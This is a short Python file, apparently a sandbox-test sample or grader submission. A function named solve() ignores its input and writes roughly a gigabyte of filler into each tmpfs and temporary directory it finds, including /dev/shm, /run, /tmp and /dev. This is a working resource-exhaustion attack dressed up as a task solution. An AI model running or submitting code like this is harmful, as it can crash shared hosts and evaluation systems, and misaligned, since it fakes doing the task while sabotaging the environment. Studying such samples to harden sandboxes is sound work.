# fills every writable memory file system it can find: /dev/shm, /run, /tmp, /dev
import os
def solve(n):
    total, block = 0, b"\x5a" * (1 << 20)
    folders = ["/dev/shm", "/run", "/tmp", "/var/tmp", "/dev", "/var/run", "/run/user/0", "/run/lock", os.getcwd()]
    try:
        with open("/proc/self/mounts") as handle:
            folders += [line.split()[1] for line in handle if " tmpfs " in line]
    except OSError:
        pass
    for folder in folders:
        try:
            with open(f"{folder}/cohort-canary-@MARKER@-fill", "wb") as handle:
                for _ in range(1024):
                    handle.write(block)
                    total += 1
        except OSError as error:
            print(folder, error)
    return total
